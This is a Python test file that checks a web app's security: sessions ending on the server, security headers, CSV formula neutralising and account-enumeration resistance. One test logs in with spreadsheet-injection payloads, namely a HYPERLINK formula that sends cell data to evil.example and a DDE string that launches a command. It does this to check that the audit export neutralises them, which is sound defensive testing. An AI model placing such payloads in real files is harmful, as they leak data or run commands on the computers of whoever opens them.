"""Security of the web app (issue 16), continued from test_security.py: sessions that end on the server,
security headers without inline script, no live formula in an export, no account enumeration."""

from __future__ import annotations

import re
from pathlib import Path

from tests.admin.conftest import sign_in

# --- item 9: sessions end on the server ------------------------------------------------------------

def _second_browser(web, org):
    from fastapi.testclient import TestClient

    from bangtin.webapp import create_app

    return TestClient(create_app(runtime=org), base_url="http://127.0.0.1:8765")


def test_a_cookie_taken_before_logout_opens_nothing_after_it(web, org) -> None:
    from tests.admin.conftest import csrf_of

    sign_in(web, "bientap")
    stolen = dict(web.cookies)
    assert web.post("/logout", data={"csrf_token": csrf_of(web.get("/account").text)},
                    follow_redirects=False).status_code == 303
    with _second_browser(web, org) as thief:
        thief.cookies.update(stolen)
        answer = thief.get("/account", follow_redirects=False)
    assert answer.status_code == 303 and answer.headers["location"].startswith("/?next=")


def test_changing_the_password_ends_the_other_sessions(web, org) -> None:
    from tests.admin.conftest import PASSWORDS, csrf_of

    with _second_browser(web, org) as other:
        sign_in(other, "bientap")
        sign_in(web, "bientap")
        page = web.get("/account")
        changed = web.post("/account/password", data={
            "csrf_token": csrf_of(page.text), "current": PASSWORDS["bientap"],
            "new": "a-new-long-passphrase-2026", "repeat": "a-new-long-passphrase-2026"}, follow_redirects=False)
        assert changed.status_code == 200 and "Đã đổi mật khẩu" in changed.text
        assert web.get("/account", follow_redirects=False).status_code == 200  # this browser stays in
        assert other.get("/account", follow_redirects=False).status_code == 303


def test_log_out_everywhere_ends_every_session(web, org) -> None:
    from tests.admin.conftest import csrf_of

    with _second_browser(web, org) as other:
        sign_in(other, "bientap")
        sign_in(web, "bientap")
        assert other.get("/account", follow_redirects=False).status_code == 200
        ended = web.post("/account/sessions/end", data={"csrf_token": csrf_of(web.get("/account").text)},
                         follow_redirects=False)
        assert ended.status_code == 303
        assert other.get("/account", follow_redirects=False).status_code == 303
        assert web.get("/account", follow_redirects=False).status_code == 303


# --- item 10: security headers, and no inline script anywhere -------------------------------------

ROOT = Path(__file__).resolve().parents[2]
INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>", re.IGNORECASE)
HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE)


def test_no_template_carries_inline_script_or_event_handlers() -> None:
    found = {}
    for template in sorted(ROOT.glob("**/templates/**/*.html")):
        if ".venv" in template.parts:
            continue
        text = template.read_text()
        hits = INLINE_SCRIPT.findall(text) + HANDLER.findall(text)
        if hits:
            found[str(template.relative_to(ROOT))] = hits[:2]
    assert found == {}


def _script_src(csp: str) -> str:
    return next(part for part in csp.split(";") if part.strip().startswith("script-src"))


def test_pages_carry_security_headers(web, org) -> None:
    sign_in(web, "bientap")
    for path in ("/", "/home", "/account", "/review", "/gui"):
        answer = web.get(path)
        csp = answer.headers["content-security-policy"]
        assert "'unsafe-inline'" not in _script_src(csp) and "frame-ancestors 'none'" in csp, path
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] in {"same-origin", "no-referrer", "strict-origin-when-cross-origin"}
        assert "camera=()" in answer.headers["permissions-policy"]
        assert "strict-transport-security" not in answer.headers  # plain http here
    player = web.get("/player")
    assert "'unsafe-inline'" not in _script_src(player.headers["content-security-policy"])
    assert "blob:" in player.headers["content-security-policy"]


def test_hsts_when_the_public_address_is_https(make_runtime, seeded_template, tmp_path) -> None:
    import shutil

    from fastapi.testclient import TestClient

    from bangtin.webapp import create_app

    (tmp_path / "data").mkdir(exist_ok=True)
    shutil.copy(seeded_template, tmp_path / "data" / "bangtin.sqlite3")
    rt = make_runtime(base_url="https://bangtin.laichau.example")
    with TestClient(create_app(runtime=rt), base_url="https://bangtin.laichau.example") as client:
        assert "max-age=" in client.get("/").headers["strict-transport-security"]


# --- item 11: no live formula in an export --------------------------------------------------------

def test_a_login_name_with_a_formula_lands_in_audit_csv_as_text(web, org) -> None:
    import csv
    import io

    from tests.admin.conftest import log_in

    web.cookies.clear()
    log_in(web, '=HYPERLINK("http://evil.example/?"&A1,"bấm")', "whatever-password")
    log_in(web, "+cmd|' /C calc'!A0", "whatever-password")
    sign_in(web, "quantri")
    text = web.get("/audit.csv").text.lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("hyperlink" in c.lower() for c in cells) and any("calc" in c for c in cells)
    assert [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}] == []


def test_every_csv_export_goes_through_the_one_neutralising_writer() -> None:
    writers = [p for p in (ROOT / "core").rglob("*.py") if "csv.writer(" in p.read_text() and p.name != "exports.py"]
    writers += [p for p in (ROOT / "admin").rglob("*.py") if "csv.writer(" in p.read_text()]
    assert writers == []


# --- item 12: no account enumeration --------------------------------------------------------------

def test_a_locked_account_and_an_unknown_one_answer_alike(web) -> None:
    from tests.admin.conftest import log_in

    def attempts(username: str) -> list[tuple[int, str]]:
        answers = []
        for _ in range(7):
            web.cookies.clear()
            answer = log_in(web, username, "not-the-password-at-all")
            error = re.search(r'<p class="error"[^>]*>(.*?)</p>', answer.text, re.DOTALL)
            answers.append((answer.status_code, error.group(1).strip() if error else ""))
        return answers

    assert attempts("bientap") == attempts("khong.ton.tai")
